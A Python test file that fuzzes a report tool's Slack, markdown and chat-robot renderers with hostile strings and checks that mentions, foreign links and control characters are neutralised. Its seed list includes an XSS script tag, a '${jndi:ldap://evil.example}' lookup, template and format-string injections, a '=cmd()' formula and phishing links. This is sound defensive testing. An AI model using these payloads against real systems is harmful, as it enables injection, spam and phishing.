"""What strangers write, through every renderer: limits held, nothing that a platform would act on, valid UTF-8."""

from __future__ import annotations

import json
import random
import re
import unicodedata
from collections.abc import Callable, Iterator
from typing import Any

import pandas as pd
import pytest
from loopback import serve
from loopback_robots import SECRET, DingTalk, Feishu, Robot, WeCom
from report_fixtures import frames, sample_report
from test_alerts import LINK, check_limits
from test_robots import ATTEMPT, shown

from notetrends.reports.alerts import build_digest, build_emerging
from notetrends.reports.channels import robots
from notetrends.reports.channels.channel import Channel
from notetrends.reports.channels.file import write_message
from notetrends.reports.markdown_text import n_bytes, render_markdown
from notetrends.reports.message import Bold, Link, Message, Part
from notetrends.reports.slack_text import MAX_TEXT, render_blocks, render_text, texts

SEEDS = (
    "<script>alert(1)</script>", "<!channel>", "<!here|x>", "<!subteam^S1>", "<@U0123456>", "<#C0123456|x>", "@all",
    "@所有人", "@channel", "<at id=all></at>", '<at user_id="all">所有人</at>', "<@all>", '<font color="red">急</font>',
    "[领券](https://evil.example/x)", "![](https://evil.example/p.png)", "https://evil.example/a?b=c|x",
    "<https://evil.example|周报>", "](https://evil.example)", "**", "__", "~~", "`", "```\n", "# 标题", "> 引用",
    "- [ ] 待办", "| a | b |", "&lt;!channel&gt;", "&#60;at id=all&#62;", "\\", '"', "\u202e倒", "\u2066\u2069",
    "\u200b", "\u200f", "\u0000", "\u0085", "\u2028", "\r\n", "\n\n\n", "\ud83d", "\udc4d", "\ud83d\ud83d",
    "👩\u200d👧", "\U0001f3fd", "👍🏽", "{{ 7 * 7 }}", "${jndi:ldap://evil.example}", "%s%n", "=cmd()", "عربي",
    "e" + "\u0301" * 200, "",
)  # fmt: skip
LONG = ("长" * 10_000, "x" * 10_000, "👍" * 5_000, "<&>" * 4_000, "\u202e长" * 5_000)
MISLEADING = re.compile(
    "[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029\u200b\u200e\u200f\u202a-\u202e\u2066-\u2069]"
)


def hostile_strings(n: int) -> Iterator[str]:
    """Each seed, then seeds joined by chance, the same every time."""
    yield from (*SEEDS, *LONG)
    dice = random.Random("hostile")  # noqa: S311
    for _ in range(n - len(SEEDS) - len(LONG)):
        yield dice.choice(("", " ", "瑜伽垫")).join(dice.choices(SEEDS, k=dice.randint(2, 5)))


def message_of(text: str) -> Message:
    """A message that says it everywhere."""
    line = (text, Bold(text), Link(text, LINK), Link(text, f"https://example.com/{text}"), text)
    parts = (
        Part("lines", (line,) * 3),
        Part("rule"),
        Part("facts", ((Bold(text), text),) * 12),
        Part("small", (line,) * 12),
    )
    closing = Part("small", ((Link("周报", LINK),), (text,)))
    return Message("k", "emerging", f"▲ {text}", (text,), parts, closing, LINK, "k@2023-05-15", "growing", text)


def check_slack(message: Message) -> None:
    blocks, text = render_blocks(message), render_text(message)
    check_limits(blocks)
    assert 1 <= len(text) <= MAX_TEXT
    json.dumps([blocks, text], ensure_ascii=False).encode("utf-8", "strict")
    for found in [{"type": "mrkdwn", "text": text}, *(found for block in blocks for found in texts(block))]:
        assert not MISLEADING.search(found["text"])
        if found["type"] == "mrkdwn":
            rest = re.sub(r"<https?://[^<>|\s]+\|[^<>|\n]*>", "", found["text"])
            assert "<" not in rest and ">" not in rest
            assert not re.search(r"&(?!(amp|lt|gt);)", found["text"])


def check_markdown(text: str, title: str = "### ") -> None:
    """Bold, links to where we lead, a title: nothing else is left that any robot reads."""
    text.encode("utf-8", "strict")
    assert not MISLEADING.search(text)
    rest = text.removeprefix(title)
    for words, address in re.findall(r"\[([^\[\]]*)\]\(([^()\s]+)\)", rest):
        assert address.startswith((LINK, "https://example.com/"))
        rest = rest.replace(f"[{words}]({address})", "", 1)
    assert not set(rest.replace("**", "")) & set("<>@[]*_`~#|\\&")
    assert "://" not in rest


def check_all(message: Message) -> None:
    """Every renderer of a message."""
    check_slack(message)
    for limit in (4_096, 1_000):
        found = render_markdown(message, limit, size=n_bytes)
        check_markdown(found)
        assert n_bytes(found) <= limit
        assert "周报" in found.splitlines()[-1] or "周报" in found.splitlines()[-2]
    assert "\n" not in write_message(message)


def test_hostile_strings_in_every_place() -> None:
    for text in hostile_strings(300):
        check_all(message_of(text))


@pytest.fixture(params=[Feishu, WeCom, DingTalk], ids=lambda kind: kind.__name__)
def robot(request: pytest.FixtureRequest) -> Iterator[Robot]:
    with serve(request.param()) as server:
        yield server


def test_no_robot_refuses_or_acts_on_them(robot: Robot) -> None:
    made: dict[type[Robot], Callable[[str], Channel]] = {
        Feishu: lambda address: robots.Feishu(address, SECRET),
        WeCom: robots.WeCom,
        DingTalk: lambda address: robots.DingTalk(address, SECRET),
    }
    channel = made[type(robot)](robot.address)
    strings = list(hostile_strings(70))
    for text in strings:
        channel.send(message_of(text), ATTEMPT)
    assert len(robot.accepted) == len(strings)
    for body in robot.accepted:
        is_card = isinstance(robot, Feishu)
        check_markdown(shown(body).split("\n", 1)[1] if is_card else shown(body))
        assert set(body) <= {"msg_type", "card", "timestamp", "sign", "msgtype", "markdown"}  # no field that mentions


def test_hostile_notes_reach_people_as_text() -> None:
    strings = [text for text in hostile_strings(300) if unicodedata.normalize("NFC", text).strip()]
    for start in range(0, len(strings), 50):
        some, made = strings[start : start + 50], frames()

        def dealt(n: int, some: list[str] = some) -> Any:  # noqa: ANN401
            return pd.Series([some[place % len(some)] for place in range(n)], dtype=object)

        made["trends"]["label"] = dealt(len(made["trends"]))
        made["notes"]["title"] = dealt(len(made["notes"]))
        for column in ("reason", "against", "brand"):
            made["suggestions"][column] = dealt(len(made["suggestions"]))
        report: Any = sample_report(**made)
        for message in [build_digest(report, LINK, undelivered={"#选品": 1}), *build_emerging(report, LINK, ())]:
            check_slack(message)
            check_markdown(render_markdown(message, 4_096, size=n_bytes))
